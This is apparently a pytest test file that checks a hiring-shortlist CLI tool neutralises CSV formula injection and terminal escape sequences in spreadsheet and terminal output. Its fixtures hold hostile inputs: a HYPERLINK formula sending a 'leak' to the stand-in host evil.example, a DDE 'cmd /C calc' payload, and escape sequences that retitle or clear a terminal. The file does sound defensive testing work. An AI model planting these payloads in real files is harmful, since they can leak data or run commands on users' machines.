"""Text from files reaches spreadsheets and terminals as text (issue 13): never a formula, never markup, never
a terminal escape sequence, never a character a workbook cannot hold."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from speccheck.cli import main
from speccheck.core.errors import ExitCode
from tests.cli.inputs import ROLE

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x9b31m"
IN_YAML = r"\x1b]0;pwned\x07\x1b[2J\u009b31m"  # the same, as YAML escapes (raw control characters are refused)
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'


def _batch(tmp_path: Path) -> list[str]:
    (tmp_path / "role.yaml").write_text(ROLE)
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "a.yaml").write_text(
        "kind: candidate\nversion: 1\nid: C-1\n"
        f'personal_details: {{first_name: "[/][red]Ada{IN_YAML}", last_name: "Quill\\u0001"}}\n'
        'professional_status: {qualified_teacher_status: "yes"}\n'
        f'evidence: [{{text: "I led safeguarding training.{IN_YAML} [bold]x[/bold]", criteria: [E2]}}]\n'
    )
    with (tmp_path / "s1.csv").open("w", newline="") as sheet:
        writer = csv.writer(sheet)
        writer.writerow(["panellist", "candidate", "criterion", "score", "note"])
        writer.writerow([FORMULA, "C-1", "E2", "3", "\t=1+1 [/] note\x07"])
        writer.writerow(["@SUM(A1)", "C-1", "E2", "0", "+cmd|' /C calc'!A0"])
    with (tmp_path / "m.csv").open("w", newline="") as sheet:
        writer = csv.writer(sheet)
        writer.writerow(["candidate", "criterion", "score", "reason"])
        writer.writerow(["C-1", "E2", "2", f"{FORMULA}\x1b[2J\x0b"])
    return [
        "shortlist",
        str(tmp_path / "role.yaml"),
        str(tmp_path / "c"),
        "--scores",
        str(tmp_path / "s1.csv"),
        "--moderated",
        str(tmp_path / "m.csv"),
        "--as-of",
        "2025-02-01",
    ]


def test_workbook_cells_are_text_without_control_characters(tmp_path: Path) -> None:
    out = tmp_path / "grid.xlsx"
    assert main([*_batch(tmp_path), "-o", str(out)]) == ExitCode.OK
    book = load_workbook(out)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not any((ord(ch) < 32 and ch not in "\n\t") or 0x7F <= ord(ch) <= 0x9F for ch in cell.value)
    joined = "\n".join(texts)
    assert FORMULA in joined and "@SUM(A1)" in joined  # kept as the text it is


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    out = tmp_path / "grid.csv"
    assert main([*_batch(tmp_path), "-o", str(out)]) == ExitCode.OK
    for row in csv.reader(io.StringIO(out.read_text())):
        for cell in row:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") and not (cell[:1] == "-" and cell[1:2].isalpha())


def test_csv_renderer_escapes_a_leading_tab_or_carriage_return() -> None:
    from speccheck.report.shortlist_csv import _safe

    assert _safe("\t=1+1") == "'\t=1+1" and _safe("\r=1") == "'\r=1" and _safe("-1.5") == "-1.5"


@pytest.mark.parametrize("color", ["never", "always"])
def test_terminal_output_has_no_escape_from_data_and_reads_no_markup(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], color: str
) -> None:
    assert main([*_batch(tmp_path), "--color", color]) == ExitCode.OK
    captured = capsys.readouterr()
    for stream in (captured.out, captured.err):
        assert "\x07" not in stream and "\x1b]" not in stream and "\x1b[2J" not in stream and "\x9b" not in stream
    assert "[/][red]Ada" in captured.out or "[bold]x[/bold]" in captured.out  # shown as written
    if color == "never":
        assert "\x1b" not in captured.out


def test_evaluate_and_lint_lines_strip_escapes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _batch(tmp_path)
    bad = tmp_path / f"bad{ESCAPES[:3]}.yaml"
    bad.write_text(f'kind: candidate\nversion: 1\nid: C-2\n"nope{IN_YAML}": 1\n')
    for args in (["evaluate", str(tmp_path / "role.yaml"), str(bad)], ["lint", str(bad), "-f", "parsable"]):
        main(args)
        captured = capsys.readouterr()
        assert "\x1b" not in captured.out + captured.err and "\x07" not in captured.out + captured.err
